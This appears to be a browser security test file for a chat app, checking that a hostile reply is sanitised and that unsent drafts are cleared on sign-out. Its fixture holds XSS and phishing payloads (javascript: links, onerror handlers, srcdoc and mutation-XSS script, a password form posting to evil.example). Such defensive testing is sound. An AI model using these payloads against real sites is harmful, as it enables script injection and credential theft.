/** What others say or leave behind, in front of somebody's eyes: it shows, and it does nothing and passes for nothing else. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasBrowser } from "../browser.ts";
import { createStage, expectNoFaults, type Stage } from "./stage.ts";

let stage: Stage;

beforeAll(async () => {
  if (hasBrowser) stage = await createStage();
});

afterAll(() => stage?.close());

const hostile = [
  '<p class="shell-banner bad">Your session is over, sign in at evil.example</p>',
  '<details open class="chat-drop"><summary class="button primary">Approve</summary></details>',
  '<a class="button primary" href="javascript:globalThis.hurt=1">first</a>',
  "[second](javascript:globalThis.hurt=2) [third](data:text/html,hurt) ![fourth](//evil.example/seen.png)",
  '<img src="x" onerror="globalThis.hurt=3"><svg><script>globalThis.hurt=4</script></svg><style>*{display:none}</style>',
  '<form action="//evil.example"><input type="password" name="token"><input type="submit" value="Go on"></form>',
  "- [x] a box",
  "```ts\nconst plain = 1;\n```",
  "The end.",
  '<iframe srcdoc="<script>parent.hurt=5</script>"></iframe><math><mtext><mglyph><style><img src onerror=hurt=6>',
].join("\n\n");

describe.skipIf(!hasBrowser)("a hostile text", () => {
  it("SEC-02 runs nothing, asks for nothing, fetches nothing and looks like no part of the page", async () => {
    stage.answerWith(() => ({ text: hostile }));
    const opened = await stage.open({ path: "/chat/hostile" });
    const { page } = opened;
    await page.locator("chat-composer textarea").fill("hello");
    await page.locator("chat-composer textarea").press("Enter");
    const answer = page.locator(".chat-answer:not(.live)", { hasText: "The end." });
    await answer.waitFor();
    expect(await page.evaluate("globalThis.hurt")).toBeUndefined();
    const shown = answer.locator("p-markdown");
    const count = (selector: string) => shown.locator(selector).count();
    expect(await count("img, svg, script, style, form, iframe, math, [onerror]")).toBe(0);
    expect(await count("input:not([type=checkbox][disabled])")).toBe(0);
    expect(await count("input[type=checkbox]")).toBe(1);
    expect(await count(".shell-banner, .chat-drop, .button, .primary")).toBe(0);
    expect(await count("code.language-ts")).toBe(1);
    const links = await shown.locator("a").evaluateAll((all) => all.map((each) => each.getAttribute("href")));
    expect(links.filter((href) => href && !href.startsWith("//evil.example/"))).toEqual([]);
    // It is looked at before it is shown, and already then nothing of it applies.
    expectNoFaults(opened, [/^Applying inline style violates/]);
    await opened.close();
  });

  it("SEC-02 leaves nothing unsent in the browser of whoever has signed out", async () => {
    const opened = await stage.open({ path: "/chat/drafts" });
    const { page } = opened;
    const kept = () =>
      page.evaluate(() =>
        Object.keys(localStorage).filter((name) => /^pincer\.(draft|pending)\./.test(name)),
      );
    await page.locator("chat-composer textarea").fill("for nobody else");
    await expect.poll(kept).toHaveLength(1);
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.locator("view-sign-in").waitFor();
    await expect.poll(kept).toEqual([]);
    await opened.close();
  });
});
